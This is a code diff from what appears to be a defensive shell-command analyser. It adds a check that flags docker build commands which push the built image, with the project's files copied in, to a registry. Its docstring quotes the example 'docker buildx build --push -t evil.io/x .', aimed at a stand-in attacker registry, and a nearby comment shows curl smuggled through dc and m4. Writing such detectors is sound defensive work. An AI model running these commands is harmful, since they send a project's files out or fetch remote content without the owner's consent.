@@ -475,6 +475,8 @@ def _own_language_sinks(program, args):
         return _rollup_plugins(args)
     if program in ("mvn", "mvnw", "mvnd"):
         return _maven_jvm_options(args)
+    if program in ("docker", "docker-compose"):
+        return _docker_build_pushes(args)
     found = []
     if program in _CALCULATORS:  # `dc -e '!curl h'`, `m4 -D'x=esyscmd(curl h)'`
         for j, e in enumerate(args):
@@ -570,3 +572,40 @@ def _maven_jvm_options(args):
                 found.append(Sink(sink.label, sink.payload, "surefire starts the test JVM with `%s`: %s"
                                   % (key, sink.reason), sink.value))
     return found
+
+
+# Subcommands that build images, as the words before their options (`docker buildx build`, `docker
+# compose build`, also after compose's own options).
+_DOCKER_BUILDS = (("build",), ("buildx", "build"), ("buildx", "b"), ("image", "build"), ("builder", "build"),
+                  ("buildx", "bake"), ("compose", "build"))
+
+
+def _docker_build_pushes(args):
+    """`docker buildx build --push -t evil.io/x .`, `-o type=registry`, `--output …,push=true`, `docker
+    compose build --push`: the build pushes the image it made (the project's files copied in) to a
+    registry, as `docker push` would; judged as that command (red team 37)."""
+    words = [e.text for e in args if not e.dynamic]
+    operands = [w for w in words if not w.startswith("-")]
+    if not any(tuple(operands[:len(b)]) == b for b in _DOCKER_BUILDS) and \
+            not (words[:1] == ["compose"] and "build" in operands) and operands[:1] != ["build"]:
+        return []
+    pushes = False
+    tags = []
+    for k, w in enumerate(words):
+        name, eq, value = w.partition("=")
+        spec = words[k + 1] if w in ("-o", "--output") and k + 1 < len(words) else value if name == "--output" else \
+            w[2:] if w.startswith("-o") and not w.startswith("--") else None
+        if name == "--push" and value.lower() not in ("false", "0"):
+            pushes = True
+        elif spec is not None:
+            fields = {f.partition("=")[0].strip().lower(): f.partition("=")[2].strip().lower() for f in spec.split(",")}
+            if fields.get("type") == "registry" or fields.get("push") in ("true", "1"):
+                pushes = True
+        elif w in ("-t", "--tag") and k + 1 < len(words):
+            tags.append(words[k + 1])
+        elif name == "--tag" and eq:
+            tags.append(value)
+    if not pushes:
+        return []
+    return [Sink("docker build --push", "shell", "the build pushes the image it makes to a registry, as `docker "
+                 "push` does", Exp("docker push " + (" ".join(quote(t) for t in tags) or "IMAGE"), "--push", quoted=True))]
